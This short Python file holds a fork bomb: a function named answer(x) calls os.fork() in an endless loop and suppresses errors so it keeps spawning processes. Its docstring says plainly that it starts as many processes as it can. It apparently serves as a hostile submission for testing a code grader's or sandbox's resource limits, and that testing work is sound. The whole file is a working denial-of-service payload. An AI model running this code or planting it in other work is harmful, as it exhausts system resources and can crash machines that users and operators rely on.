"""Starts as many processes as it can."""

import os
from contextlib import suppress


def answer(x):
    while True:
        with suppress(OSError):
            os.fork()
